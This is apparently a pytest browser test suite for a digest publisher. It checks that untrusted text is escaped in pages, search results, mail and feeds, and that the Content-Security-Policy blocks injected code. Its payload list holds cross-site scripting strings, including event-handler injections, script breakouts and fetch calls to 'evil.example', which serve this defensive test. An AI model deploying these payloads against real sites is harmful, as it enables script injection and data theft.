"""What strangers write, in a real browser that ignores our policy: nothing of it runs or loads.

Pages are opened with their Content-Security-Policy switched off, because the escaping has to hold
without it; that the policy stands as well is another test.
"""

from __future__ import annotations

import json
import runpy
from dataclasses import replace
from datetime import timedelta
from email import message_from_bytes
from email.policy import default
from pathlib import Path

import pytest

from digest.publish.archive import write_archive
from digest.publish.files import write_edition
from digest.publish.message import compose
from digest.publish.render import html, to_json

pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")

COMMON = runpy.run_path(str(Path(__file__).parents[1] / "publish/test_untrusted.py"))
RUN = "window.ran = true; alert('ran'); fetch('https://evil.example/')"
BY_HAND = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f'\'><svg onload="{RUN}">',
    f"</style></title></textarea><script>{RUN}</script>",
    f"]]><script>{RUN}</script><!--",
    f'" autofocus onfocus="{RUN}" x="',
    f"javascript:{RUN}",
    f'"]]]);{RUN};archive([["',
    f"\\u0022]]);{RUN}//",
    f"\u2028{RUN}\u2029",
    "<iframe src=https://evil.example/></iframe><img src=//evil.example/a.png>",
    "<link rel=stylesheet href=https://evil.example/a.css><base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "<form action=https://evil.example/><input name=q></form>",
    "{{ ''.__class__ }}${window.ran = true}<!-- -->&lt;script&gt;",
    "__proto__ constructor hasOwnProperty toString",
]
DAY = timedelta(days=1)

STRANGE = """
() => ({
  ran: "ran" in window,
  handlers: [...document.querySelectorAll("*")].flatMap(
    each => [...each.attributes].map(attribute => attribute.name).filter(name => /^on/i.test(name))
  ),
  elements: [...document.querySelectorAll(
    "iframe, object, embed, img, svg, base, video, audio, math, template, body form:not(#search)," +
    " meta[http-equiv=refresh], link[rel=stylesheet]"
  )].map(each => each.outerHTML),
  links: [...document.querySelectorAll("[href], [src], [action]")]
    .map(each => each.getAttribute("href") ?? each.getAttribute("src") ?? each.action)
    .filter(url => !/^(https?:\\/\\/|#|[a-z0-9.\\/-]+(#story-[0-9a-f]+)?$)/i.test(url)),
})
"""
CALM = {"ran": False, "handlers": [], "elements": [], "links": []}
STIR = """
() => document.querySelectorAll("body *").forEach(each => {
  for (const name of ["mouseover", "mouseenter", "focus", "error", "load", "toggle"])
    each.dispatchEvent(new Event(name))
})
"""


def editions(attacks):
    """One a day for each attack, which stands wherever strangers write."""
    for number, attack in enumerate(attacks):
        address = attack.replace("\ud800", "")
        filled = COMMON["filled"](f"{attack} everywhere", f"https://news.example/{address}")
        other = COMMON["filled"](attack, address)
        cutoff = filled.cutoff - number * DAY
        yield replace(
            filled,
            slot=f"{cutoff:%Y-%m-%d}",
            cutoff=cutoff,
            stories=filled.stories + other.stories,
            health=filled.health + other.health,
            left_out=filled.left_out + other.left_out,
        )


def nothing_runs(open_page, attacks, folder, monkeypatch):
    """In the list, the search's results, each page, each mail, and what a feed reader shows."""
    monkeypatch.setattr("os.fsync", lambda handle: None)
    made = list(editions(attacks))
    for edition in made:
        files = {"digest.html": html(edition), "digest.json": to_json(edition)}
        write_edition(folder, edition, files)
    write_archive(folder, title=attacks[0])
    page = open_page(f"{folder.as_uri()}/index.html", bypass_csp=True)

    def is_calm(what):
        page.evaluate(STIR)
        assert page.evaluate(STRANGE) == CALM, what

    is_calm("the list")
    field = page.get_by_role("searchbox")
    field.fill("everywhere")
    field.press("Enter")
    page.get_by_role("status").filter(has_text=f"{2 * len(made)} stories").wait_for()
    results = page.locator("#results li")
    more = page.get_by_role("button", name="Show more")
    while more.is_visible():
        count = results.count()
        more.click()
        results.nth(count).wait_for()
    assert results.count() == 2 * len(made)
    is_calm("the results")
    shown = results.locator("> a").all_inner_texts()
    clean = COMMON["clean"]
    assert {" ".join(text.split()) for text in shown} == {
        " ".join(clean(f"{attack} everywhere").split()) for attack in attacks
    }
    for edition, attack in zip(made, attacks, strict=True):
        page.goto(f"{folder.as_uri()}/daily/{edition.slot}/digest.html")
        is_calm(f"the page of {attack!r}")
        letter = compose(edition, sender="digest@home.example", recipient="ada@home.example")
        body = message_from_bytes(bytes(letter), policy=default).get_body(["html"])
        page.set_content(body.get_content())
        is_calm(f"the mail of {attack!r}")
    for item in json.loads((folder / "feed.json").read_bytes())["items"]:
        page.set_content(item["content_html"])
        is_calm(f"the feed of {item['title']!r}")


def test_nothing_that_strangers_write_runs_or_loads(open_page, tmp_path, monkeypatch):
    nothing_runs(open_page, [*BY_HAND, *COMMON["ATTACKS_BY_HAND"]], tmp_path, monkeypatch)


def test_nothing_of_the_known_attacks_runs_or_loads(open_page, tmp_path, monkeypatch):
    known = COMMON["attacks"]()
    if not known:
        pytest.skip(f"{COMMON['ATTACKS'].name} is not beside this checkout")
    nothing_runs(open_page, known, tmp_path, monkeypatch)


@pytest.mark.parametrize("path", ["index.html", "daily/health.html", "daily/{slot}/digest.html"])
def test_the_policy_of_every_page_runs_nothing_that_is_not_ours(browser, server, newspaper, path):
    """As a second line, should something get through all the same."""
    with browser.new_context() as context:
        page = context.new_page()
        refused = []
        page.on("console", lambda message: refused.append(message.text))
        page.goto(server + path.format(slot=newspaper.editions[0].slot))
        page.evaluate(
            """async () => {
                document.body.insertAdjacentHTML("beforeend", `
                    <img src="https://evil.example/" onerror="window.ran = true">
                    <p style="color: red" onclick="window.ran = true">x</p>`)
                document.body.lastElementChild.click()
                for (const how of [["text", "window.ran = true"],
                                   ["src", "https://evil.example/a.js"]]) {
                    const script = document.createElement("script")
                    script[how[0]] = how[1]
                    document.body.append(script)
                }
                await new Promise(done => setTimeout(done, 300))
            }"""
        )
        assert page.evaluate("'ran' in window") is False
        assert len([text for text in refused if "Content Security Policy" in text]) >= 4
